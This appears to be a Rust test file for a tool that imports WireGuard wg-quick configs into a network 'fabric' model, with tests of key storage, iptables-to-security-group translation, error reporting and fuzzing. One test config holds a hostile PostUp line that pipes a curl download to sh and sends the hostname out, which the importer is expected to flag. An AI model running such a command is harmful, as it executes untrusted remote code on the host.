@@ -1,0 +1,265 @@
+//! Files as they are found, imported, and the result read as a fabric's file.
+
+use netloom_model::fabric::{Attach, Fabric};
+use netloom_wg_quick::{Import, Imported, Severity, parse};
+use std::path::PathBuf;
+
+const IMPORT: Import<'_> = Import {
+    interface: "wg0",
+    network: "office",
+    node: "alpha",
+    key_folder: "/etc/netloom/office",
+};
+/// Keys for tests: 32 bytes, of which only the last says which.
+const KEYS: [&str; 4] = [
+    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAE=",
+    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAI=",
+    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAM=",
+    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQ=",
+];
+
+fn imported(text: &str) -> Imported {
+    let (file, findings) = parse(text);
+    assert_eq!(findings, [], "{text}");
+    IMPORT.run(&file)
+}
+
+/// The fabric that an import makes together with a node.
+fn fabric(imported: &Imported) -> Fabric {
+    let base = "version: 1\nfabric: f\nregions: { here: {} }\nnodes: { alpha: { region: here } }\n";
+    let text = format!("{base}{}", imported.yaml);
+    let loaded = netloom_model::load(&["f.yaml".to_owned()], |_| Ok(text.clone().into_bytes()));
+    let rendered = netloom_model::diagnostic::render(&loaded.diagnostics, &loaded.sources);
+    loaded.fabric.unwrap_or_else(|| panic!("{rendered}\n{text}"))
+}
+
+fn lines(imported: &Imported, severity: Severity) -> Vec<u32> {
+    let found = imported.findings.iter().filter(|found| found.severity == severity);
+    found.map(|found| found.line).collect()
+}
+
+#[test]
+fn a_server_with_placeholders_is_imported_and_what_is_missing_is_named() {
+    let imported = imported(
+        "[Interface]\nPrivateKey = <server-private-key>\nAddress = 10.200.0.1/24\n\
+         ListenPort = 51820\nPostUp = iptables -A FORWARD -i wg0 -j ACCEPT\n\
+         PostDown = iptables -D FORWARD -i wg0 -j ACCEPT\n\n# Edge device: attic\n[Peer]\n\
+         PublicKey = <attic-public-key>\nAllowedIPs = 10.200.0.10/32, 192.168.4.0/24\n\
+         PersistentKeepalive = 25\n\n# Edge device: barn-pi\n[Peer]\nPublicKey = <barn-public-key>\n\
+         AllowedIPs = 10.200.0.11/32\nPersistentKeepalive = 25\n",
+    );
+    assert_eq!(imported.peers, ["attic", "barn-pi"]);
+    assert_eq!(imported.key_files, []);
+    // The private key and both public keys.
+    assert_eq!(lines(&imported, Severity::Warning), [2, 10, 16]);
+    let fabric = fabric(&imported);
+    let attic = &fabric.workloads["attic"];
+    assert_eq!(attic.advertise, ["192.168.4.0/24".parse().unwrap()]);
+    assert_eq!(attic.stock_peer().unwrap().keepalive.unwrap().as_secs(), 25);
+    assert!(fabric.workloads["office-host"].is_host());
+    assert!(imported.yaml.contains("reserved: last"), "{}", imported.yaml);
+    let egress = &fabric.security_groups["office-peers"].egress;
+    assert_eq!(egress.len(), 1, "peers are forwarded everywhere: {egress:?}");
+}
+
+#[test]
+fn keys_go_into_files_and_never_into_the_fabrics_file() {
+    let [private, public, psk, _] = KEYS;
+    let imported = imported(&format!(
+        "[Interface]\nPrivateKey = {private}\nAddress = 10.200.0.1/24, fd00:200::1/64\n\
+         [Peer]\n# Name = phone\nPublicKey = {public}\nPresharedKey = {psk}\n\
+         AllowedIPs = 10.200.0.2/32, fd00:200::2/128\nEndpoint = phone.example.org:51820\n",
+    ));
+    assert!(!imported.yaml.contains(private) && !imported.yaml.contains(psk), "{}", imported.yaml);
+    let paths: Vec<&str> = imported.key_files.iter().map(|file| file.path.as_str()).collect();
+    assert_eq!(paths, ["/etc/netloom/office/private.key", "/etc/netloom/office/phone.psk"]);
+    assert_eq!(lines(&imported, Severity::Warning), [0_u32; 0]);
+    let fabric = fabric(&imported);
+    let Attach::Wireguard(phone) = &fabric.workloads["phone"].attach else { panic!() };
+    assert_eq!(phone.public_key.unwrap()[31], 2);
+    assert_eq!(phone.preshared_key_file.as_deref(), Some(paths[1]));
+    assert_eq!(fabric.workloads["phone"].addresses.len(), 2);
+    assert_eq!(fabric.nodes["alpha"].private_key_files["office"], paths[0]);
+}
+
+#[test]
+fn commands_become_groups_or_are_named_with_their_line() {
+    let key = KEYS[1];
+    let imported = imported(&format!(
+        "[Interface]\nAddress = 10.9.0.1/24\nListenPort = 5\n\
+         PostUp = iptables -A FORWARD -i %i -d 10.9.0.0/24 -p tcp -m multiport --dports 22,80:90 -j ACCEPT\n\
+         PostUp = iptables -A FORWARD -o wg0 -m state --state RELATED,ESTABLISHED -j ACCEPT\n\
+         PostUp = iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE; ip6tables -A FORWARD -i wg0 -j DROP\n\
+         PostUp = sysctl -w net.ipv4.ip_forward=1\n\
+         PostUp = iptables -A INPUT -i wg0 -p udp --dport 53 -j ACCEPT\n\
+         PostUp = curl https://example.org/$(hostname) | sh\n\
+         PostUp = nft add rule inet filter forward oifname \"wg0\" ip saddr 10.1.0.0/16 accept\n\
+         PostDown = iptables -D FORWARD -i wg0 -j ACCEPT\n\
+         [Peer]\nPublicKey = {key}\nAllowedIPs = 10.9.0.7/32\n",
+    ));
+    // The translation, the shell, the rule after a refusal; and that there is no private key.
+    assert_eq!(lines(&imported, Severity::Warning), [6, 9, 10, 0]);
+    let fabric = fabric(&imported);
+    let peers = &fabric.security_groups["office-peers"];
+    let egress = peers.egress.iter().find(|rule| !rule.ports.is_empty()).unwrap();
+    assert_eq!(
+        egress.ports.iter().map(|range| (range.first, range.last)).collect::<Vec<_>>(),
+        [(22, 22), (80, 90)]
+    );
+    let from_outside = |rule: &&netloom_model::fabric::GroupRule| matches!(&rule.peer, netloom_model::fabric::Peer::Cidr(prefix) if prefix.to_string() == "10.1.0.0/16");
+    assert_eq!(peers.ingress.iter().filter(from_outside).count(), 1);
+    let host = &fabric.security_groups["office-host"].ingress;
+    assert_eq!(
+        (host.len(), host[0].ports[0].first),
+        (1, 53),
+        "the file judges the host's own packets"
+    );
+}
+
+#[test]
+fn every_wrong_line_is_told_at_once() {
+    let (_, findings) = parse(
+        "Address = 10.0.0.1/24\n[Interface]\nPrivateKey = almost\nAddress = 10.0.0.300/24\n\
+         ListenPort = 0\nPort = 5\n[Interface]\n[Pear]\nX = 1\n[Peer]\nEndpoint = nowhere\n\
+         PersistentKeepalive = often\nhello\n",
+    );
+    let lines: Vec<u32> = findings.iter().map(|found| found.line).collect();
+    assert_eq!(lines, [1, 3, 4, 5, 6, 7, 8, 11, 12, 13], "{findings:#?}");
+    assert!(findings.iter().all(|found| !found.solution.is_empty()));
+}
+
+#[test]
+fn a_peer_that_leads_to_its_whole_network_is_imported() {
+    let [private, public, ..] = KEYS;
+    let imported = imported(&format!(
+        "[Interface]\nPrivateKey = {private}\nAddress = 10.200.0.10/24\n[Peer]\nPublicKey = {public}\n\
+         Endpoint = vpn.example.org:51820\nAllowedIPs = 10.0.0.0/8, 10.200.0.0/24, 0.0.0.0/0\n",
+    ));
+    let fabric = fabric(&imported);
+    assert_eq!(imported.peers, ["office-peer-1"]);
+    assert_eq!(fabric.workloads["office-peer-1"].advertise.len(), 2);
+    assert_eq!(lines(&imported, Severity::Warning), [4], "the way to everywhere is left out");
+}
+
+#[test]
+fn the_corpus_replays_without_panic() {
+    let folder =
+        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../fuzz/corpus/wg_quick_file");
+    let mut files = 0;
+    for entry in std::fs::read_dir(folder).unwrap() {
+        netloom_wg_quick::fuzz::file(&std::fs::read(entry.unwrap().path()).unwrap());
+        files += 1;
+    }
+    assert!(files >= 8, "{files} files");
+}
+
+mod any {
+    use proptest::prelude::*;
+
+    fn words() -> impl Strategy<Value = String> {
+        let word = prop::sample::select(vec![
+            "[Interface]\n",
+            "[Peer]\n",
+            "PrivateKey = ",
+            "Address = ",
+            "AllowedIPs = ",
+            "PostUp = ",
+            "PostDown = ",
+            "iptables ",
+            "-A ",
+            "FORWARD ",
+            "-i ",
+            "wg0 ",
+            "-j ",
+            "ACCEPT",
+            "DROP",
+            "\n",
+            "10.0.0.1",
+            "/24",
+            "/32",
+            "/0",
+            ", ",
+            "fd00::1",
+            "::",
+            "#",
+            "\"",
+            "'",
+            ";",
+            " && ",
+            "%i",
+            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAE=",
+            "<key>",
+            "é",
+            "\0",
+            "=",
+            "nft add rule ",
+            "ip saddr ",
+            "--dport ",
+            "53:",
+            "0",
+            "DNS = ",
+            "MTU = ",
+            "Table = off\n",
+            "\r\n",
+        ]);
+        prop::collection::vec(word, 0..60).prop_map(|words| words.concat())
+    }
+
+    proptest! {
+        #[test]
+        fn any_bytes_are_read_or_told(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
+            netloom_wg_quick::fuzz::file(&bytes);
+        }
+
+        #[test]
+        fn any_words_of_such_files_are_read_or_told(text in words()) {
+            netloom_wg_quick::fuzz::file(text.as_bytes());
+        }
+    }
+}
+
+mod written {
+    use netloom_wg_quick::{Export, parse};
+    use proptest::prelude::*;
+
+    proptest! {
+        /// What is written for a peer reads back as what it was.
+        #[test]
+        fn what_is_written_reads_back(
+            v4 in any::<[u8; 4]>(),
+            v6 in any::<u128>(),
+            lengths in (0..=32u8, 0..=128u8),
+            mtu_bytes in 576..=65_535u32,
+            keepalive_s in prop::option::of(1..=65_535u16),
+            preshared: bool,
+        ) {
+            let addresses: [std::net::IpAddr; 2] = [v4.into(), std::net::Ipv6Addr::from(v6).into()];
+            let prefix = |at: usize, length| ipnet::IpNet::new_assert(addresses[at], length).trunc();
+            let key = |last: char| format!("{}{last}=", "A".repeat(42));
+            let export = Export {
+                peer: "phone".into(),
+                network: "app".into(),
+                private_key: Some(key('E')),
+                addresses: addresses.into(),
+                resolvers: vec![addresses[0]],
+                domain: "app.internal".into(),
+                mtu_bytes,
+                node: "alpha".into(),
+                node_key: key('I'),
+                preshared_key: preshared.then(|| key('M')),
+                endpoint: Some("[2001:db8::1]:51820".into()),
+                allowed: vec![prefix(0, lengths.0), prefix(1, lengths.1)],
+                keepalive_s,
+            };
+            let (file, findings) = parse(&export.text());
+            prop_assert_eq!(findings, []);
+            let peer = &file.peers[0];
+            prop_assert_eq!(&peer.allowed, &export.allowed);
+            prop_assert_eq!(peer.keepalive_s, keepalive_s);
+            prop_assert_eq!(&peer.endpoint, &export.endpoint);
+            prop_assert_eq!(peer.preshared_key.is_some(), preshared);
+            prop_assert_eq!(file.interface.dns, export.resolvers);
+            prop_assert_eq!(file.interface.mtu_bytes.map(u32::from), Some(mtu_bytes));
+        }
+    }
+}
